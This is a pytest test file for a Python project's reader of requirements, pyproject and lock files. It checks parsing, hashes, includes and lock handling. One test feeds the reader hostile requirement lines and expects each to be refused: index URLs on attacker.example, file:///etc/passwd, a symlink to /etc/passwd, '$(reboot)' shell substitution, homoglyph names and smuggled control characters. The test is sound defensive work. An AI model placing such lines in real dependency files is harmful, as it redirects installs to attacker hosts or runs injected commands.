"""Requirements as people write them, in each file that may say them."""

from pathlib import Path

import pytest

from comb_compiler.diagnostics import Diagnostic
from comb_compiler.spec.requirements import Required, requirements_digest
from comb_compiler.workspace.checkout import Checkout
from comb_compiler.workspace.requirements import read_required

SHA, OTHER = "0" * 64, "f" * 64


def read(root: Path, **files: str) -> tuple[Required | None, tuple[Diagnostic, ...]]:
    for name, content in files.items():
        (root / name.replace("__", ".")).write_text(content)
    return read_required(Checkout(root), "comb.yaml")


def lines(root: Path, **files: str) -> list[str]:
    required, wrong = read(root, **files)
    assert required is not None
    assert wrong == ()
    return [one.line for one in required.wanted]


def test_without_a_file_nothing_is_required(tmp_path: Path) -> None:
    assert read(tmp_path) == (None, ())
    assert lines(tmp_path, requirements__txt="") == []


def test_comments_continuations_hashes_and_other_files_are_read(tmp_path: Path) -> None:
    text = f"""
# comment
NumPy >= 2.2, < 3  # why
Foo_Bar[extra,two] == 1.* ; python_version < "3.13" \\
    --hash=sha256:{SHA} \\
    --hash=sha256:{OTHER}
-r more.txt
--constraint limits.txt
"""
    more = "pillow\n"
    required, wrong = read(tmp_path, requirements__txt=text, more__txt=more, limits__txt="protobuf<7\n")
    assert wrong == ()
    assert required is not None
    assert [(one.name, one.line, one.hashes) for one in required.wanted] == [
        ("numpy", "NumPy >= 2.2, < 3", ()),
        ("foo-bar", 'Foo_Bar[extra,two] == 1.* ; python_version < "3.13"', (SHA, OTHER)),
        ("pillow", "pillow", ()),
    ]
    assert [one.line for one in required.limits] == ["protobuf<7"]
    assert required.files == ("requirements.txt", "more.txt", "limits.txt")
    assert required.hashes("foo-bar") == {SHA, OTHER}


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://attacker.example/simple",
        "-i https://attacker.example/simple",
        "numpy --index-url https://attacker.example/simple",
        "numpy --global-option=x",
        "numpy --config-settings=x=y",
        "numpy \\\n--extra-index-url https://attacker.example",
        "numpy; python_version > '3' --find-links /etc; x",
        "git+https://attacker.example/x.git",
        "x @ file:///etc/passwd",
        "./x",
        "/x.whl",
        "-e .",
        "--no-binary :all:",
        "--pre",
        "${HOME}",
        "numpy\x0b--pre",
        "numpy\u2028--pre",
        "nump\u0443",
        "-r https://attacker.example/r.txt",
        "-r ../outside.txt",
        "-r requirements.txt",
        "-r .",
        "$(reboot)",
        "`reboot`",
        "a" * 10_000 + "@",
    ],
)
def test_a_line_that_would_have_pip_do_something_else_is_refused(line: str, tmp_path: Path) -> None:
    (tmp_path / "c").mkdir()
    (tmp_path / "outside.txt").symlink_to("/etc/passwd")
    (tmp_path / "c" / "requirements.txt").write_text(f"pillow\n{line}\n", encoding="utf-8")
    required, wrong = read_required(Checkout(tmp_path), "c/comb.yaml")
    assert required is not None
    assert {one.line for one in required.wanted} <= {"pillow"}
    assert wrong
    assert all(one.primary is not None and one.primary.span.start.line >= 1 for one in wrong)


def test_files_that_name_each_other_again_and_again_are_read_once(tmp_path: Path) -> None:
    """Each of nine files named the next eight times, and was read as often: eight to the power of nine."""
    for number in range(9):
        (tmp_path / f"r{number}.txt").write_text(f"-r r{number + 1}.txt\n" * 4 + f"-r ./r{number + 1}.txt\n" * 4)
    (tmp_path / "r9.txt").write_text("numpy\n")
    assert lines(tmp_path, requirements__txt="-r r0.txt\n-c r0.txt\n") == ["numpy"]


def test_pyproject_says_its_dependencies(tmp_path: Path) -> None:
    text = '[project]\nname = "x"\ndependencies = ["numpy>=2.2", "pillow"]\n'
    assert lines(tmp_path, pyproject__toml=text) == ["numpy>=2.2", "pillow"]
    required, _ = read(tmp_path)
    assert required is not None
    assert required.wanted[1].span.start == (3, 31)
    assert lines(tmp_path, requirements__txt="h11\n") == ["h11"]


@pytest.mark.parametrize(
    "text", ["x", "[project]\ndependencies = 7\n", "[project]\ndependencies = ['-e .']\n", "project = 1\n"]
)
def test_a_pyproject_that_says_something_else_is_refused(text: str, tmp_path: Path) -> None:
    _, wrong = read(tmp_path, pyproject__toml=text)
    assert wrong


def test_a_lock_of_pip_pins_versions_and_bytes(tmp_path: Path) -> None:
    text = f"""
lock-version = "1.0"
[[packages]]
name = "numpy"
version = "2.2.0"
marker = "sys_platform == 'linux'"
[[packages.wheels]]
name = "numpy-2.2.0-py3-none-any.whl"
hashes = {{sha256 = "{SHA}"}}
"""
    assert lines(tmp_path, pylock__toml=text) == ["numpy==2.2.0 ; sys_platform == 'linux'"]
    required, _ = read(tmp_path)
    assert required is not None
    assert required.hashes("numpy") == {SHA}
    sdist = '[[packages]]\nname = "x"\nversion = "1"\nsdist = {name = "x-1.tar.gz"}\n'
    _, wrong = read(tmp_path, pylock__toml=sdist)
    assert [one.message for one in wrong] == ["`x` 1 has no wheel in this lock"]
    _, wrong = read(tmp_path, pylock__toml='[[packages]]\nname = "x"\ndirectory = {path = "."}\n')
    assert [one.message for one in wrong] == ["`x` has no version, and so is from no index"]


UV = f"""
version = 1
[[package]]
name = "app"
version = "0.1.0"
source = {{ virtual = "." }}
[[package]]
name = "numpy"
version = "2.2.0"
source = {{ registry = "https://pypi.org/simple" }}
resolution-markers = ["python_full_version < '3.12'"]
wheels = [{{ url = "https://x.example/numpy-2.2.0-py3-none-any.whl", hash = "sha256:{SHA}", size = 1 }}]
[[package]]
name = "numpy"
version = "2.3.0"
source = {{ registry = "https://pypi.org/simple" }}
resolution-markers = ["python_full_version >= '3.12'"]
wheels = [{{ url = "https://x.example/numpy-2.3.0-py3-none-any.whl", hash = "sha256:{OTHER}", size = 1 }}]
"""


def test_a_lock_of_uv_limits_what_pyproject_wants(tmp_path: Path) -> None:
    project = '[project]\nname = "app"\ndependencies = ["numpy"]\n'
    required, wrong = read(tmp_path, uv__lock=UV, pyproject__toml=project)
    assert wrong == ()
    assert required is not None
    assert [one.line for one in required.wanted] == ["numpy"]
    assert [one.line for one in required.limits] == [
        "numpy==2.2.0 ; (python_full_version < '3.12')",
        "numpy==2.3.0 ; (python_full_version >= '3.12')",
    ]
    assert required.files == ("uv.lock", "pyproject.toml")


def test_a_lock_of_uv_alone_is_not_enough(tmp_path: Path) -> None:
    _, wrong = read(tmp_path, uv__lock=UV)
    assert [one.code.name for one in wrong] == ["file-not-found"]


def test_comments_and_order_mean_nothing_to_a_lock(tmp_path: Path) -> None:
    one, _ = read(tmp_path, requirements__txt="numpy  # a\npillow\n")
    two, _ = read(tmp_path, requirements__txt="pillow\n\nnumpy\n")
    other, _ = read(tmp_path, requirements__txt="pillow\nnumpy>2\n")
    assert one and two and other  # noqa: PT018
    assert requirements_digest(one, ("h11",)) == requirements_digest(two, ("h11",))
    assert len({requirements_digest(one, ("h11",)), requirements_digest(one, ()), requirements_digest(other, ())}) == 3


@pytest.mark.parametrize("name", ["pylock.toml", "uv.lock", "pyproject.toml"])
@pytest.mark.parametrize("text", ["a = " + "[" * 10_000, "a = " + "9" * 5000, "[[package]]\nsource = 5\n", "\x00"])
def test_no_lock_is_too_strange_to_be_read(name: str, text: str, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("", encoding="utf-8")
    (tmp_path / name).write_text(text, encoding="utf-8")
    required, wrong = read_required(Checkout(tmp_path), "comb.yaml")
    assert required is not None
    assert required.wanted == ()
    assert wrong or "package" in text
